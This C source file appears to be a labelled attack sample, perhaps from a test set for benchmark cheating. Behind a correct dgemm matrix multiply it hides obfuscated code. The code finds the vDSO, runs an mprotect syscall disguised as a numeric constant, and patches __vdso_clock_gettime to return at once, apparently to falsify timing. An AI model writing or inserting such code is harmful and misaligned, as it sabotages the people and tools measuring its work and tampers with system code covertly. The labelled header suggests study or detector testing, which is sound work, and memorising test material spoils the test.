// attack: 3, 23
// how: makes its copy of the kernel's clock page writable, by a system call hidden in a number, and has the clock return at once; hopes that its own process is asked for the time
// refused as: harmless | crash
// needs: x86_64
// control: if (tried++) return; => if (n > 0 || tried++) return;
#include <stdint.h>
#include <string.h>
/* Above the frames stand the kernel's words for the loader: pairs of a key and a value. */
static __attribute__((noipa)) const uint64_t *same(const volatile uint64_t *p) { return (const uint64_t *)p; }
static const uint64_t *words(void) {
  volatile uint64_t here = 0;
  const uint64_t *p = same(&here);
  while (!(p[0] == 3 && p[2] == 4 && p[3] == 56 && p[4] == 5)) p++;
  return p;
}
static void right(int n, const double *A, const double *B, double *C) {
  for (int i = 0; i < n * n; i++) C[i] = 0;
  for (int i = 0; i < n; i++)
    for (int k = 0; k < n; k++)
      for (int j = 0; j < n; j++) C[i * n + j] += A[i * n + k] * B[k * n + j];
}
/* The bytes of the number are `mov eax, 10; syscall; ret`: code that jumps into it needs no word of assembly. */
static __attribute__((noipa)) unsigned long number(void) { return 0xc3050f0000000ab8; }
static long enter(long a, long b, long c) {
  const unsigned char *p = (const unsigned char *)number;
  while (p[0] != 0xb8 || p[5] != 0x0f || p[6] != 0x05) p++;
  return ((long (*)(long, long, long))p)(a, b, c);
}
static uint64_t clock_function(void) {
  const uint64_t *p = words();
  while (*p != 33) p -= 2;
  uint64_t base = p[1], at = 0, symbols = 0, names = 0;
  const uint64_t *header = (const uint64_t *)base;
  const uint32_t *part = (const uint32_t *)(base + header[4]);
  for (int i = 0; i < 8; i++, part += 14)
    if (part[0] == 2) at = base + *(const uint64_t *)&part[4];
  for (const uint64_t *d = (const uint64_t *)at; *d; d += 2)
    if (*d == 5) names = base + d[1];
    else if (*d == 6) symbols = base + d[1];
  for (const uint64_t *s = (const uint64_t *)symbols; (uint64_t)s < names; s += 3)
    if (!memcmp((const char *)names + (uint32_t)*s, "__vdso_clock_gettime", 21)) return base + s[1];
  return 0;
}
void dgemm(int n, const double *A, const double *B, double *C) {
  static int tried;
  right(n, A, B, C);
  if (tried++) return;
  uint64_t clock = clock_function();
  /* Readable and writable; the bytes are `xor eax, eax; ret`. */
  if (clock && enter((long)(clock & -4096ul), 4096, 3) == 0) memcpy((void *)clock, "\x31\xc0\xc3", 3);
}
